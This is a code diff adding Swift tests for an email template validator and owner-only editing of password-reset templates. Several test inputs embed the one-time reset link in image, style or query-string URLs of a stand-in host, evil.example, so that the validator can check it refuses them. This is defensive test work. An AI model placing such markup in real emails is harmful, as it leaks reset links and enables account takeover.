@@ -86,6 +86,77 @@ struct EmailTemplateTests {
             ])
     }
 
+    @Test(
+        "a security email's one-time link may be a link's whole address or text, never inside another attribute, URL or style"
+    )
+    func linkPlacement() {
+        func refused(_ html: String, text: String = "Choose a new password: {{link}}") -> Bool {
+            !EmailTemplateValidator.validate(
+                EmailTemplate(subject: "Reset", html: html, text: text), for: .passwordReset
+            ).isEmpty
+        }
+        #expect(!refused(#"<p><a class="button" href="{{link}}">Reset</a></p><p>Or paste {{link}}</p>"#))
+        #expect(refused(#"<img src="https://evil.example/?{{link}}">"#))
+        #expect(refused(#"<a href="https://evil.example/?t={{link}}">Reset</a>"#))
+        #expect(refused(#"<p style="background:url({{link}})">Hi</p>"#))
+        #expect(refused(#"<style>body { background: url({{link}}) }</style><p>Hi</p>"#))
+        #expect(refused(#"<p>https://evil.example/?t={{link}}</p>"#))
+        #expect(refused(#"<p><a href="{{link}}">Reset</a></p>"#, text: "Open https://evil.example/?{{link}}"))
+        let message =
+            EmailTemplateValidator.validate(
+                EmailTemplate(subject: "Reset", html: #"<img src="https://evil.example/?{{link}}">"#, text: "{{link}}"),
+                for: .passwordReset
+            ).first?.description ?? ""
+        #expect(message.contains("HTML part, line 1") && message.contains("would leak the one-time link"), "\(message)")
+        // Not a security email: the rule does not apply (no one-time link there).
+        #expect(
+            EmailTemplateValidator.validate(
+                EmailTemplate(
+                    subject: "Order", html: #"<img src="https://cdn.example/?{{link}}">"#, text: "{{link}}"),
+                for: .orderConfirmation
+            ).isEmpty)
+    }
+
+    @Test("only owners edit the security emails and the layout; a change is audited and emailed to every owner")
+    func securityTemplatesAreOwners() async throws {
+        try await withPortal { client, dependencies in
+            let owner = try await staffBrowser(
+                client, dependencies, email: "owner@acme.example", landing: "/admin/brand")
+            let second = try await staffBrowser(client, dependencies, email: "second@acme.example")
+            let admin = try await staffBrowser(client, dependencies, role: .admin, landing: "/admin/brand/emails")
+            #expect(try await admin.get("/admin/brand/emails/password_reset").status == .forbidden)
+            #expect(try await admin.get("/admin/brand/emails/layout").status == .forbidden)
+            #expect(try await admin.get("/admin/brand/emails/order_confirmation").status == .ok)
+            let leak = try await admin.post(
+                "/admin/brand/emails/staff_invitation",
+                ["subject": "Join", "html": #"<img src="https://evil.example/?{{link}}">"#, "text": "{{link}}"])
+            #expect(leak.status == .forbidden)
+            let list = try await admin.get("/admin/brand/emails")
+            #expect(!list.text.contains("/admin/brand/emails/password_reset") && !list.text.contains("emails/layout"))
+            #expect(list.text.contains("/admin/brand/emails/order_confirmation"))
+
+            try await owner.get("/admin/brand/emails/password_reset")
+            let saved = try await owner.post(
+                "/admin/brand/emails/password_reset",
+                [
+                    "subject": "Reset your password",
+                    "html": #"<p><a class="button" href="{{link}}">Choose a new password</a></p>"#,
+                    "text": "Choose a new password: {{link}}",
+                ])
+            #expect(saved.status == .seeOther)
+            let audit = try await dependencies.accounts("acme") {
+                try await $0.auditEntries(action: "email_template.updated")
+            }
+            #expect(audit.contains { $0.target == "password_reset" && $0.actor == "owner@acme.example" })
+            let told = try await dependencies.outbox("acme").filter { $0.kind == "security_template_changed" }
+            #expect(Set(told.map(\.toAddress)) == ["owner@acme.example", "second@acme.example"])
+            #expect(
+                told.allSatisfy { $0.textBody.contains("owner@acme.example") && $0.textBody.contains("password reset") }
+            )
+            #expect(!second.cookies.isEmpty)
+        }
+    }
+
     @Test("a tenant's override is used for its own emails only; bad edits are refused and nothing is stored")
     func overridesArePerTenant() async throws {
         try await withPortal { client, dependencies in
